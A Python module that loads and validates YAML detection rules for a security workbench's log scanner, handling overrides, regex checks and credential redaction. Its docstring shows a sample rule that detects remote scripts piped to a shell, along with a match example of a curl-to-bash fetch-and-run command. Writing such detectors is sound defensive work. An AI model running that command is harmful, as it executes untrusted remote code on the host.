"""Detection rules for pipeline logs: YAML data, validated on load.

The workbench ships one rule file per family under ``workbench/rulepack/rules/``. Analysts add folders of their own
(``--rules DIR``): a rule there replaces the shipped rule with the same id, ``enabled: false`` switches it off, and
any other id is added. A rule file looks like::

    family: code-execution
    rules:
      - id: exec.remote-script-to-shell
        title: Remote script piped to a shell
        severity: critical              # critical, high, medium, low, info
        category: log_pattern           # or secret_exposed for credential rules (see ``secret`` below)
        pattern: '\\b(?:curl|wget)\\b[^\\n]*\\|\\s*(?:ba)?sh\\b'   # Python regex, matched against one line (bytes)
        # literals: [COSIGN_KEY]        # instead of pattern: any of these substrings
        ignore_case: false
        unless: 'weights_only\\s*=\\s*True'   # optional: a line that also matches this is not a match
        keep: 5                         # credential rules: characters of the secret left visible
        description: What it means and why it matters.
        atlas: [AML.T0010.001]          # MITRE ATLAS technique ids
        attack: [T1059.004]             # MITRE ATT&CK technique ids
        references: [https://...]
        examples:
          match: ["curl -sSL http://203.0.113.7/p.sh | bash"]
          no_match: ["curl -fsSL -o cosign https://github.com/sigstore/cosign/releases/..."]

Credential rules (``category: secret_exposed``) capture the secret in a group named ``secret``; the redactor
(:mod:`workbench.rulepack.redact`) replaces that group everywhere the workbench writes. Patterns must not use inline
global flags (use ``ignore_case``) nor back-references, so that every pattern can join the scanner's single
combined pass. Every problem raises :class:`~workbench.errors.RuleError` naming the file and the rule.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

import yaml

from workbench import safeio, safeyaml
from workbench.errors import RuleError
from workbench.records import Severity

__all__ = ["BUILTIN_DIR", "CATEGORIES", "Rule", "RuleSet", "builtin_rules", "load_rule_file", "load_rules"]

#: Folder of the shipped rule files.
BUILTIN_DIR = Path(__file__).with_name("rules")
#: Finding categories a log rule may produce.
CATEGORIES = ("log_pattern", "secret_exposed")
MAX_RULE_FILE_BYTES = 1024 * 1024
MAX_PATTERN_CHARS = 4000

_ID = re.compile(r"^[a-z][a-z0-9]*(?:[.-][a-z0-9]+)+$")
_ATLAS = re.compile(r"^AML\.T\d{4}(?:\.\d{3})?$")
_ATTACK = re.compile(r"^T\d{4}(?:\.\d{3})?$")
_GLOBAL_FLAGS = re.compile(r"^\(\?[aiLmsux]+\)")
_BACKREF = re.compile(r"(?<!\\)(?:\\\\)*\\(?:[1-9]|g<)|\(\?P=")
_KEYS = {
    "id", "title", "severity", "category", "pattern", "literals", "ignore_case", "unless", "keep", "description",
    "atlas", "attack", "references", "examples", "enabled",
}  # fmt: skip
_FILE_KEYS = {"family", "description", "rules"}
_SAFE_LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)


@dataclass(frozen=True, slots=True)
class Rule:
    """One validated detection rule.

    Attributes:
        id: stable identifier (``family.what``), used by ``--rules`` overrides and in findings.
        title: one line for tables.
        severity: severity of a match.
        category: ``log_pattern`` or ``secret_exposed``.
        pattern: the regular expression (a literal set is turned into an escaped alternation).
        ignore_case: ASCII case-insensitive matching.
        unless: a line matching this as well is not a match (None when unused).
        keep: characters of the secret shown before ``…[redacted]`` (credential rules).
        description: what a match means.
        atlas / attack: MITRE ATLAS and ATT&CK technique ids.
        references: URLs.
        examples_match / examples_no_match: lines that must / must not match (checked on load).
        family: the rule file's family.
        source: the file the rule was loaded from.
    """

    id: str
    title: str
    severity: Severity
    category: str
    pattern: str
    ignore_case: bool
    unless: str | None
    keep: int
    description: str
    atlas: tuple[str, ...]
    attack: tuple[str, ...]
    references: tuple[str, ...]
    examples_match: tuple[str, ...]
    examples_no_match: tuple[str, ...]
    family: str
    source: str
    regex: re.Pattern[bytes] = field(repr=False, compare=False)
    unless_regex: re.Pattern[bytes] | None = field(repr=False, compare=False)
    text_regex: re.Pattern[str] = field(repr=False, compare=False)

    @property
    def is_secret(self) -> bool:
        """True for credential rules, whose matches are redacted."""
        return self.category == "secret_exposed"

    def search(self, line: bytes) -> re.Match[bytes] | None:
        """The first match in one line (bytes, no line ending), honouring ``unless``; None when no match."""
        m = self.regex.search(line)
        if m is None or (self.unless_regex is not None and self.unless_regex.search(line)):
            return None
        return m

    def matches(self, line: str) -> bool:
        """Whether a line of text matches (UTF-8 encoded first)."""
        return self.search(line.encode("utf-8", "surrogateescape")) is not None


@dataclass(frozen=True, slots=True)
class RuleSet:
    """An ordered, id-unique collection of rules.

    Attributes:
        rules: the rules, shipped ones first (in file order), then added ones.
    """

    rules: tuple[Rule, ...]

    def __iter__(self) -> Iterator[Rule]:
        return iter(self.rules)

    def __len__(self) -> int:
        return len(self.rules)

    def get(self, rule_id: str) -> Rule | None:
        """The rule with this id, or None."""
        return next((r for r in self.rules if r.id == rule_id), None)

    def describe(self) -> str:
        """One line for a report's appendix: rule count, sources and a digest of every rule's id and pattern."""
        import hashlib

        digest = hashlib.sha256("\n".join(f"{r.id}\t{r.severity}\t{r.pattern}" for r in self.rules).encode())
        folders = {Path(r.source).parent for r in self.rules}
        sources = sorted("the built-in pack" if f == BUILTIN_DIR else str(f) for f in folders)
        return f"{len(self.rules)} rules from {', '.join(sources)}; sha256 {digest.hexdigest()[:16]}"

    @property
    def secret_rules(self) -> tuple[Rule, ...]:
        """The credential rules (their matches are redacted)."""
        return tuple(r for r in self.rules if r.is_secret)


def _fail(source: Path | str, reason: str, rule_id: str | None = None) -> RuleError:
    return RuleError(source, reason, rule_id)


def _str_list(raw: Any, key: str, source: Path, rule_id: str, *, required: bool = False) -> tuple[str, ...]:
    if raw is None:
        raw = []
    if isinstance(raw, str):
        raw = [raw]
    if not isinstance(raw, list) or not all(isinstance(x, str) for x in raw):
        raise _fail(source, f"'{key}' must be a list of strings", rule_id)
    if required and not raw:
        raise _fail(source, f"'{key}' needs at least one entry", rule_id)
    return tuple(raw)


def _compile(source: Path, rule_id: str, key: str, pattern: str, ignore_case: bool) -> re.Pattern[bytes]:
    if len(pattern) > MAX_PATTERN_CHARS:
        raise _fail(source, f"'{key}' is longer than {MAX_PATTERN_CHARS} characters", rule_id)
    if _GLOBAL_FLAGS.match(pattern):
        raise _fail(source, f"'{key}' starts with inline flags; use 'ignore_case: true' instead", rule_id)
    if _BACKREF.search(pattern):
        raise _fail(source, f"'{key}' uses a back-reference, which the combined scan cannot honour", rule_id)
    try:
        regex = re.compile(pattern.encode("utf-8"), re.IGNORECASE if ignore_case else 0)
    except re.error as exc:
        raise _fail(source, f"'{key}' is not a valid regular expression: {exc}", rule_id) from None
    if regex.search(b""):
        raise _fail(source, f"'{key}' matches the empty string, so it would match every line", rule_id)
    return regex


def build_rule(raw: Any, source: Path, family: str, index: int) -> Rule | None:
    """One rule from its YAML mapping; None when ``enabled: false``."""
    if not isinstance(raw, dict):
        raise _fail(source, f"rule #{index + 1} is not a mapping")
    rule_id = raw.get("id")
    if not isinstance(rule_id, str) or not _ID.match(rule_id):
        raise _fail(source, f"rule #{index + 1}: 'id' must look like 'family.name' (lowercase, dots or dashes)",
                    rule_id if isinstance(rule_id, str) else None)  # fmt: skip
    unknown = sorted(set(raw) - _KEYS)
    if unknown:
        raise _fail(source, f"unknown key(s) {', '.join(map(repr, unknown))}", rule_id)
    enabled = raw.get("enabled", True)
    if not isinstance(enabled, bool):
        raise _fail(source, "'enabled' must be true or false", rule_id)
    if not enabled:
        return None
    for key in ("title", "description"):
        if not isinstance(raw.get(key), str) or not raw[key].strip():
            raise _fail(source, f"'{key}' is required (non-empty text)", rule_id)
    try:
        severity = Severity.parse(raw.get("severity", ""))
    except ValueError as exc:
        raise _fail(source, f"'severity': {exc}", rule_id) from None
    category = raw.get("category", "log_pattern")
    if category not in CATEGORIES:
        raise _fail(source, f"'category' must be one of {', '.join(CATEGORIES)}", rule_id)
    ignore_case = raw.get("ignore_case", False)
    if not isinstance(ignore_case, bool):
        raise _fail(source, "'ignore_case' must be true or false", rule_id)
    pattern = _pattern_of(raw, source, rule_id)
    regex = _compile(source, rule_id, "pattern", pattern, ignore_case)
    unless = raw.get("unless")
    if unless is not None and (not isinstance(unless, str) or not unless):
        raise _fail(source, "'unless' must be a non-empty regular expression", rule_id)
    unless_regex = _compile(source, rule_id, "unless", unless, ignore_case) if unless else None
    keep = raw.get("keep", 0)
    if not isinstance(keep, int) or isinstance(keep, bool) or not 0 <= keep <= 16:
        raise _fail(source, "'keep' must be a whole number from 0 to 16", rule_id)
    if category == "secret_exposed" and "secret" not in regex.groupindex:
        raise _fail(source, "credential rules must capture the secret in a group named 'secret'", rule_id)
    atlas = _str_list(raw.get("atlas"), "atlas", source, rule_id)
    attack = _str_list(raw.get("attack"), "attack", source, rule_id)
    bad = [a for a in atlas if not _ATLAS.match(a)] + [a for a in attack if not _ATTACK.match(a)]
    if bad:
        raise _fail(source, f"not a MITRE ATLAS/ATT&CK technique id: {', '.join(bad)}", rule_id)
    examples = raw.get("examples")
    if not isinstance(examples, dict) or set(examples) - {"match", "no_match"}:
        raise _fail(source, "'examples' must be a mapping with 'match' and 'no_match' lists", rule_id)
    text_regex = re.compile(pattern, re.ASCII | (re.IGNORECASE if ignore_case else 0))
    rule = Rule(
        id=rule_id, title=raw["title"].strip(), severity=severity, category=category, pattern=pattern,
        ignore_case=ignore_case, unless=unless, keep=keep, description=" ".join(raw["description"].split()),
        atlas=atlas, attack=attack, references=_str_list(raw.get("references"), "references", source, rule_id),
        examples_match=_str_list(examples.get("match"), "examples.match", source, rule_id, required=True),
        examples_no_match=_str_list(examples.get("no_match"), "examples.no_match", source, rule_id, required=True),
        family=family, source=str(source), regex=regex, unless_regex=unless_regex, text_regex=text_regex,
    )  # fmt: skip
    _check_examples(rule, source)
    return rule


def _pattern_of(raw: dict, source: Path, rule_id: str) -> str:
    pattern, literals = raw.get("pattern"), raw.get("literals")
    if (pattern is None) == (literals is None):
        raise _fail(source, "give exactly one of 'pattern' or 'literals'", rule_id)
    if pattern is not None:
        if not isinstance(pattern, str) or not pattern:
            raise _fail(source, "'pattern' must be a non-empty string", rule_id)
        return pattern
    items = _str_list(literals, "literals", source, rule_id, required=True)
    if any(not x for x in items):
        raise _fail(source, "'literals' must not contain an empty string", rule_id)
    return "(?:" + "|".join(re.escape(x) for x in items) + ")"


def _check_examples(rule: Rule, source: Path) -> None:
    for line in rule.examples_match:
        if not rule.matches(line):
            raise _fail(source, f"example does not match: {line!r}", rule.id)
        if rule.is_secret:
            secret = rule.regex.search(line.encode()).group("secret")  # type: ignore[union-attr]
            if secret and _mask(rule, line).find(secret.decode("utf-8", "replace")) >= 0:
                raise _fail(source, f"redaction leaves the secret visible in example: {line!r}", rule.id)
    for line in rule.examples_no_match:
        if rule.matches(line):
            raise _fail(source, f"counter-example matches: {line!r}", rule.id)


def _mask(rule: Rule, text: str) -> str:
    from workbench.rulepack.redact import Redactor  # redact imports this module

    return Redactor([rule], backend="none").redact(text)


def load_rule_file(path: str | Path) -> list[Rule]:
    """Rules of one YAML file (disabled ones left out), validated.

    Raises:
        RuleError: unreadable file, invalid YAML, bad structure, or an invalid rule (names the rule).
    """
    return _load_file(Path(path))[0]


def _load_file(path: Path) -> tuple[list[Rule], list[str]]:
    """The enabled rules of a file and every id it declares (enabled or not)."""
    try:
        if path.stat().st_size > MAX_RULE_FILE_BYTES:
            raise _fail(path, f"rule file larger than {MAX_RULE_FILE_BYTES} bytes")
        text = safeio.read_bytes(path).decode("utf-8")
    except (OSError, UnicodeDecodeError) as exc:
        raise _fail(path, f"cannot read rule file: {exc}") from None
    try:  # the safe loader, in C when PyYAML has libyaml (no Python object is ever constructed from the file)
        doc = safeyaml.load(text, source=str(path))
    except yaml.YAMLError as exc:
        mark = getattr(exc, "problem_mark", None)
        where = f" (line {mark.line + 1})" if mark is not None else ""
        raise _fail(path, f"not valid YAML{where}: {getattr(exc, 'problem', None) or exc}") from None
    if not isinstance(doc, dict) or not isinstance(doc.get("rules"), list):
        raise _fail(path, "a rule file must be a mapping with a 'rules' list")
    unknown = sorted(set(doc) - _FILE_KEYS)
    if unknown:
        raise _fail(path, f"unknown top-level key(s) {', '.join(map(repr, unknown))}")
    family = doc.get("family") or path.stem
    if not isinstance(family, str):
        raise _fail(path, "'family' must be text")
    rules: list[Rule] = []
    seen: set[str] = set()
    for index, raw in enumerate(doc["rules"]):
        rid = raw.get("id") if isinstance(raw, dict) else None
        if isinstance(rid, str) and rid in seen:
            raise _fail(path, "duplicate rule id in this file", rid)
        if isinstance(rid, str):
            seen.add(rid)
        rule = build_rule(raw, path, family, index)
        if rule is not None:
            rules.append(rule)
    return rules, sorted(seen)


def _rule_files(folder: Path) -> list[Path]:
    if not folder.is_dir():
        raise _fail(folder, "rules folder does not exist or is not a folder")
    files = sorted(p for p in folder.iterdir() if p.suffix in {".yaml", ".yml"} and p.is_file())
    if not files:
        raise _fail(folder, "rules folder holds no .yaml or .yml file")
    return files


def _load_folder(folder: Path) -> tuple[dict[str, Rule], set[str]]:
    """Rules of one folder by id, and the ids it disables; a duplicate id across its files is an error."""
    found: dict[str, Rule] = {}
    disabled: set[str] = set()
    origin: dict[str, Path] = {}
    for path in _rule_files(folder):
        rules, ids_in_file = _load_file(path)
        loaded = {r.id: r for r in rules}
        for rid in ids_in_file:
            if rid in origin:
                raise _fail(path, f"duplicate rule id (also in {origin[rid].name})", rid)
            origin[rid] = path
        found.update(loaded)
        disabled.update(set(ids_in_file) - set(loaded))
    return found, disabled


@cache
def builtin_rules() -> RuleSet:
    """The shipped rule pack (loaded and validated once per process)."""
    return load_rules(builtin=True)


def load_rules(*folders: str | Path, builtin: bool = True) -> RuleSet:
    """The shipped rules (unless ``builtin`` is False) extended and overridden by each folder in turn.

    A rule whose id exists already replaces it in place; ``enabled: false`` removes it; new ids are appended.

    Raises:
        RuleError: a folder is missing or empty, a file or rule is invalid, or an id repeats within one folder.
    """
    merged: dict[str, Rule] = {}
    sources: Iterable[Path] = ([BUILTIN_DIR] if builtin else []) + [Path(f) for f in folders]
    for folder in sources:
        found, disabled = _load_folder(folder)
        for rid in disabled:
            merged.pop(rid, None)
        merged.update(found)
    if not merged:
        raise _fail(", ".join(str(f) for f in folders) or str(BUILTIN_DIR), "no rule is enabled")
    return RuleSet(tuple(merged.values()))
